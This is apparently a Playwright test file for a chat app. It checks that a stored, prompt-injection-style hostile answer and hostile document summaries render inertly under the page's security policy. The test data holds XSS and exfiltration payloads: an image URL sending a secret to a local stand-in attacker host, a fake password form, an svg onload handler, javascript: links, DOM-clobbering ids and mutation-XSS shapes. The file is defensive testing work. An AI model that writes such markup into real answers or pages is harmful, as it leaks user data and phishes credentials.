"""A hostile answer (what a prompt-injected document could steer a model to write), stored as a
finished message and opened in Chromium: the page renders stored history through the same
renderer as a live stream. Nothing is fetched, nothing restyled, no form appears, no link runs
script, and answer ids cannot shadow the page's own JSON blocks. A document's summary carrying
mutation-XSS shapes renders its safe parts and runs nothing, and no script writes an HTML string
into the page. Plus: no page trips its own Content-Security-Policy (the chat socket, the admin).
Each check that something did not happen waits first for a sign that it would have by then
(tests/support/page_checks.py)."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.test_chat_page import log_in
from tests.support.client import base_url, make_user
from tests.support.page_checks import (
    PAGE_SPY,
    SENTINEL_MARKDOWN,
    SENTINEL_PATH,
    html_writes,
    mutation_xss,
    policy_violations,
    wait_for_sentinel_error,
    watch_policy,
)

pytestmark = pytest.mark.usefixtures("web_server")


class Recorder:
    """A loopback host that notes every request it gets: the 'attacker' the answer points at."""

    def __init__(self):
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder():
    server = Recorder()
    yield server
    server.close()


def hostile_page(browser, user, path: str):
    """A page of ``user``'s opened with the spy in place; returns it and the URLs it asked for, in order."""
    page = browser.new_page()
    page.add_init_script(PAGE_SPY)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    log_in(page, user)
    with page.expect_response(lambda response: response.url.endswith(SENTINEL_PATH)):
        page.goto(base_url() + path)
    return page, requested


def assert_ran_and_fetched_nothing(page, requested: list[str], recorder) -> None:
    """Behind the sentinel: it was asked for after every image before it, and its error came in."""
    wait_for_sentinel_error(page)
    assert not [url for url in requested if url.startswith(recorder.url)], "the page asked the other host"
    assert recorder.paths == [], f"the answer made the browser fetch {recorder.paths}"
    assert page.evaluate("window.pwned") is None
    assert html_writes(page) == [], "a script wrote an HTML string into the page"


def assert_inert(root) -> None:
    """No handler attribute, no foreign content, nothing that parses its text differently."""
    assert (
        root.locator("svg, math:not(.math-inline math, .math-display math), style, form, input, textarea").count() == 0
    )
    assert root.locator("select, iframe, noscript, template, details[open], [style]").count() == 0
    handlers = root.evaluate(
        "r => [...r.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    )
    assert handlers == []
    assert (
        root.evaluate("r => [...r.querySelectorAll('a[href]')].filter(a => !/^https?:|^mailto:/.test(a.href)).length")
        == 0
    )


def test_hostile_answer_fetches_nothing_restyles_nothing(browser, recorder):
    from chat.models import Conversation, Message

    user = make_user()
    conversation = Conversation.objects.create(owner=user, title="hostile")
    Message.objects.create(conversation=conversation, role="user", content="summarise the PDF")
    leak = f"{recorder.url}/x?c=secret"
    Message.objects.create(
        conversation=conversation,
        role="assistant",
        content=(
            f'Summary follows.\n\n<img src="{leak}">\n\n![chart]({recorder.url}/md.png)\n\n'
            "<style>body{display:none !important}</style>\n\n"
            '<form action="/login/"><input type="password" name="password"><button>Sign in</button></form>\n\n'
            '<svg onload="window.pwned=1"><circle r="5"/></svg>\n\n'
            '<a href="javascript:window.pwned=2">click</a> <a id="documents-data" name="history-data">x</a> '
            '<a href="https://example.org/page">docs</a>\n\n'
            '<p style="color: rgb(255, 0, 0)" class="error">red</p>'
        ),
    )
    # One answer per mutation-XSS shape (a raw-text element or comment left open swallows the rest of
    # its answer), then one that ends with the sentinel.
    for shape in mutation_xss(recorder.url):
        Message.objects.create(conversation=conversation, role="assistant", content=f"Shape:\n\n{shape}")
    Message.objects.create(conversation=conversation, role="assistant", content=f"End.\n\n{SENTINEL_MARKDOWN}")
    page, requested = hostile_page(browser, user, f"/c/{conversation.id}/")
    expect(page.locator("article.assistant .body").last).to_contain_text("End.")
    assert_ran_and_fetched_nothing(page, requested, recorder)
    assert_inert(page.locator("#messages"))
    answer = page.locator("article.assistant .body").first
    expect(answer).to_contain_text("red")
    # A remote image is a link showing its address.
    expect(answer.locator("a", has_text=leak)).to_have_count(1)
    assert answer.locator("img").count() == 0
    # Nothing restyled: the page is visible, the <style> and style attribute are gone.
    assert page.evaluate("getComputedStyle(document.body).display") == "flex"  # app.css, not the answer
    expect(page.locator("#composer")).to_be_visible()
    assert answer.locator("style, [style], [class]").count() == 0
    # No form, input, button or foreign content inside the answer.
    assert answer.locator("form, input, button, textarea, select, svg, math, iframe").count() == 0
    assert_inert(answer)
    # Links: never javascript:, always a new tab with no opener or referrer.
    links = answer.locator("a")
    for index in range(links.count()):
        link = links.nth(index)
        href = link.get_attribute("href") or ""
        assert not href.lower().startswith("javascript:")
        if href:
            assert link.get_attribute("target") == "_blank"
            assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
    assert answer.locator("a[href='https://example.org/page']").count() == 1
    # The page's own JSON blocks are still the ones read.
    assert answer.locator("[id], [name]").count() == 0
    assert page.evaluate("document.getElementById('documents-data').tagName") == "SCRIPT"
    assert page.evaluate("document.getElementById('history-data').tagName") == "SCRIPT"
    page.close()


SAFE_SUMMARY = """## Harbour report

The port handled **1,204** ships (pp. 1–3), see [the register](https://example.org/register).

| Quay | Ships |
|------|------:|
| North | 700 |

```python
print("berths")
```

Growth was $x^2$ a year."""


def test_hostile_document_summary_renders_its_safe_parts_and_runs_nothing(browser, recorder):
    """A summary is a model's text: through the same renderer as answers, as nodes (documents.js). One
    document per mutation-XSS shape, then one with a safe summary ending with the sentinel."""
    from chat.models import Conversation, Document

    user = make_user()
    conversation = Conversation.objects.create(owner=user, title="hostile summary")
    summaries = [f"Shape:\n\n{shape}" for shape in mutation_xss(recorder.url)]
    for index, text in enumerate([*summaries, f"{SAFE_SUMMARY}\n\nEnd of summary.\n\n{SENTINEL_MARKDOWN}"]):
        Document.objects.create(
            owner=user,
            conversation=conversation,
            name=f"report-{index}.pdf",
            kind=Document.Kind.PDF,
            status=Document.Status.READY,
            summary=text,
        )
    page, requested = hostile_page(browser, user, f"/c/{conversation.id}/")
    expect(page.locator("article.document .summary").last).to_contain_text("End of summary.")
    assert_ran_and_fetched_nothing(page, requested, recorder)
    assert_inert(page.locator("#document-list"))
    expect(page.locator("article.document")).to_have_count(len(summaries) + 1)
    summary = page.locator("article.document .summary").last
    assert summary.locator("img").count() == 1  # the sentinel, from this app
    # The safe parts, rendered: heading, emphasis, a link opening apart, a table, highlighted code, maths.
    expect(summary.locator("h2")).to_have_text("Harbour report")
    expect(summary.locator("strong").first).to_have_text("1,204")
    link = summary.locator("a[href='https://example.org/register']")
    expect(link).to_have_attribute("target", "_blank")
    expect(summary.locator(".table-wrap table td").first).to_have_text("North")
    expect(summary.locator(".code-block pre code.language-python span.hljs-string")).to_have_text('"berths"')
    expect(summary.locator(".math-inline math msup")).to_have_count(1)
    entity_link = page.locator("article.document .summary a", has_text="entity link")
    expect(entity_link).to_have_count(1)
    assert entity_link.get_attribute("href") is None
    page.close()


def test_admin_and_pages_work_under_the_policy(browser):
    staff = make_user(is_staff=True, is_superuser=True)
    page = browser.new_page()
    violations = watch_policy(page)
    log_in(page, staff)
    for path in ("/", "/admin/", "/admin/auth/user/", f"/admin/auth/user/{staff.pk}/change/", "/keys/", "/monitor/"):
        response = page.goto(base_url() + path)
        assert response.status == 200, path
        assert response.headers["content-security-policy"].startswith("default-src 'self'")
    # The planner's bars get their widths from base.js (no style attributes in the page).
    from django.conf import settings

    query = (
        f"model={settings.DEFAULT_MODEL_FILE}&ctx_size=8192&parallel=1&cache_type_k=f16&cache_type_v=f16"
        "&gpu_layers=99&cpu_moe_layers=0&ubatch=512&free_vram_gib=1&margin_gib=0"
    )
    response = page.goto(f"{base_url()}/monitor/models/planner/?{query}")
    expect(page.locator("#plan-totals")).to_be_visible()
    assert " style=" not in response.text()
    width = page.evaluate("parseFloat(document.querySelector('.vram-bar .weights').style.width)")
    assert 0 < width <= 100
    # The admin's own scripts run (its nav sidebar toggle is wired by admin/js/nav_sidebar.js).
    page.goto(base_url() + "/admin/auth/user/")
    expect(page.locator("#toggle-nav-sidebar")).to_be_visible()
    assert policy_violations(page, violations) == []
    page.close()


def test_oversized_upload_is_refused_while_it_arrives_with_the_limit_named(browser, tmp_path):
    """The body cap closes the upload early; the page still shows the limit, not a network error."""
    from django.conf import settings

    big = tmp_path / "huge notes.txt"
    with big.open("wb") as out:
        out.truncate(settings.DOCUMENT_MAX_BYTES + settings.MULTIPART_OVERHEAD_BYTES + 1024 * 1024)
    page = browser.new_page()
    log_in(page, make_user())
    page.set_input_files("#document-input", str(big))
    page.click("#document-upload")
    expect(page.locator("#document-error")).to_have_text(
        f"The file is too large: the limit is {settings.DOCUMENT_MAX_BYTES // 1_048_576} MB.", timeout=60_000
    )
    page.close()
